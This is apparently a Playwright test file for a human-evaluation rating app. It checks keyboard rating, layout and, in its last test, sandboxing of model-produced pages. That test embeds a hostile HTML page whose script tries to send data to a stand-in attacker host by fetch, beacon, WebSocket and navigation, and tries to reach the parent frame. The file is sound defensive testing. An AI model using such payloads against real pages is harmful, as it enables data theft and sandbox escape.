"""The app in headless Chromium; skipped where there is none, or no Playwright."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from browser import Seen, chromium, rate_by_keyboard
from small_studies import KINDS, prepare, write_attempt
from test_serve import FREE, serving

from north_lightning.human_evaluation.store import Store
from north_lightning.human_evaluation.study import RATINGS, Study

pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
pytestmark = pytest.mark.slow

NAMES = ("quokka", "wombat")
PAGE = """<!doctype html><title>Clicks</title><link rel="stylesheet" href="style.css"><p id="p">0</p>
<script src="app.js"></script><script>document.getElementById("p").textContent = count(1)</script>"""


def make_study(folder: Path, num_items: int = 4, **files: str) -> Study:
    for number in range(num_items):
        for model in NAMES:
            made = files or {
                "index.html": PAGE,
                "style.css": "p { color: green }",
                "app.js": f"count = (n) => 'by {model}' + n",
            }
            write_attempt(folder / model / f"item-{number}", KINDS[number % 4], f"Item {number} by {model}", files=made)
    sides = [f"{model}={folder / model}" for model in NAMES]
    return prepare(sides, folder / "study")


def same(study: Study) -> Any:
    return lambda one: ({side: dict.fromkeys(study.questions(one), 4) for side in (one.left, one.right)}, 2)


def test_a_rater_with_a_keyboard_only_and_a_server_that_is_killed(tmp_path: Path) -> None:
    study, seen = make_study(tmp_path), Seen(NAMES)
    with chromium() as context:
        seen.watch(context)
        page = context.new_page()
        with serving("--study", str(study.folder), *FREE) as (_, links):
            port = links[0].split(":")[2].split("/")[0]
            assert rate_by_keyboard(page, links[0], study, "rater-1", same(study), until=2) == 2
            page.goto(f"{links[0]}/3")
            page.keyboard.press("5")
            page.locator(".status", has_text="Draft saved.").wait_for()
            page.wait_for_load_state("networkidle")  # or the console would tell of what the kill cut off
        with serving("--study", str(study.folder), "--port", port, "--frame_port", "0") as (_, links):
            page.goto(f"{links[0]}/3")
            assert page.locator("input:checked").count() == 1
            assert page.locator("input[name=left-0]:checked").get_attribute("value") == "5"
            frame = page.locator("iframe").first.element_handle().content_frame()
            frame.locator("#p", has_text="by").wait_for()
            assert frame.locator("#p").text_content() == "by MODEL1"
            assert frame.evaluate("self.origin") == "null"
            assert frame.evaluate("getComputedStyle(document.getElementById('p')).color") == "rgb(0, 128, 0)"
            rest = len(study.assignments["rater-1"]) - 2
            assert rate_by_keyboard(page, links[0], study, "rater-1", same(study)) == rest
    judged = Store(study.folder / RATINGS).judgments()
    assert [judged[one.id].preference for one in study.assignments["rater-1"]] == [2] * (rest + 2)
    assert (seen.external, seen.errors, seen.leaks) == ([], [], [])
    assert seen.requests > 40


def test_the_pages_work_without_javascript(tmp_path: Path) -> None:
    study = make_study(tmp_path)
    with serving("--study", str(study.folder), *FREE) as (_, links), chromium(java_script_enabled=False) as context:
        page = context.new_page()
        page.goto(f"{links[0]}/1")
        for field in page.locator("fieldset").all():
            field.locator("label").nth(3).click()
        page.locator("button").click()
        page.locator("label", has_text="B is much better").click()
        page.locator("button").click()
        assert "1 of" in page.text_content("main")
    assert [one.preference for one in Store(study.folder / RATINGS).judgments().values()] == [5]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_nothing_is_wider_than_the_window(width: int, scheme: str, tmp_path: Path) -> None:
    study = make_study(tmp_path)
    size = {"width": width, "height": 800}
    with (
        serving("--study", str(study.folder), *FREE) as (_, links),
        chromium(viewport=size, color_scheme=scheme) as context,
    ):
        page = context.new_page()
        for path in ("", "/1", "/2", "/3"):
            page.goto(links[0] + path)
            assert page.evaluate("document.documentElement.scrollWidth") <= width
            background = page.evaluate("getComputedStyle(document.body).backgroundColor")
            assert (background == "rgb(20, 24, 28)") == (scheme == "dark")
            small = page.evaluate(
                "[...document.querySelectorAll('fieldset label')].filter(one => one.offsetHeight < 36).length"
            )
            assert small == 0  # large enough for a finger


HOSTILE = """<!doctype html><title>x</title><link rel="dns-prefetch" href="//evil.example"><img src="{evil}/img">
<iframe src="{evil}/frame"></iframe><form id=f action="{evil}/form"><input name=a></form>
<script>
const a = document.createElement("a");
const tries = [
  () => {{ a.href = "{evil}/link"; a.ping = "{evil}/ping"; a.click(); }},
  () => parent.document.title = "owned", () => top.location = "{evil}/top", () => parent.location = "{evil}/parent",
  () => open("{evil}/open"), () => alert(1), () => f.submit(), () => fetch("{evil}/fetch"),
  () => navigator.sendBeacon("{evil}/beacon"), () => new WebSocket("{evil}".replace("http", "ws")),
  () => new EventSource("{evil}/events"), () => {{ new Image().src = "{evil}/image" }}, () => localStorage.a = 1,
  () => document.cookie = "a=1", () => fetch("/sealed.json").then(r => r.text()), () => import("{evil}/module.js"),
  () => new Worker("{evil}/worker.js"), () => parent.postMessage("x", "*"), () => {{ location = "{evil}/self" }},
];
for (const one of tries) {{ try {{ one() }} catch {{}} }}
setTimeout(() => {{ while (true); }}, 700);
</script>"""


@contextmanager
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """An address of somebody else, and what reaches it."""
    heard: list[bytes] = []
    with socket.socket() as server:
        server.bind(("127.0.0.2", 0))
        server.listen()

        def receive(connection: socket.socket) -> None:
            with connection:  # where a frame wants to go, Chromium connects before the policy stops it; nothing is sent
                if data := connection.recv(200):
                    heard.append(data)

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                threading.Thread(target=receive, args=(connection,), daemon=True).start()

        threading.Thread(target=listen, daemon=True).start()
        yield f"http://127.0.0.2:{server.getsockname()[1]}", heard
        server.shutdown(socket.SHUT_RDWR)


def test_a_hostile_page_reaches_nobody_and_cannot_touch_the_pages(tmp_path: Path) -> None:
    with listener() as (evil, heard), socket.socket(type=socket.SOCK_DGRAM) as packets:
        packets.bind(("127.0.0.2", 0))
        packets.setblocking(False)
        page_text = HOSTILE.format(evil=evil, port=packets.getsockname()[1])
        study = make_study(tmp_path, **{"index.html": page_text})
        with serving("--study", str(study.folder), *FREE) as (_, links), chromium() as context:
            page, dialogs = context.new_page(), []
            context.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
            page.goto(f"{links[0]}/1")
            page.wait_for_timeout(1500)  # the frames loop by now
            assert page.url == f"{links[0]}/1"
            assert page.title().startswith("Comparison 1 of")
            assert len(context.pages) == 1
            page.keyboard.press("3")
            page.locator(".status", has_text="Draft saved.").wait_for(timeout=5000)
            assert context.cookies() == []
        assert heard == []
        with pytest.raises(BlockingIOError):
            packets.recv(100)
        assert dialogs == []
    assert Store(study.folder / RATINGS).draft(study.assignments["rater-1"][0].id, "ratings") == {"left-0": "3"}
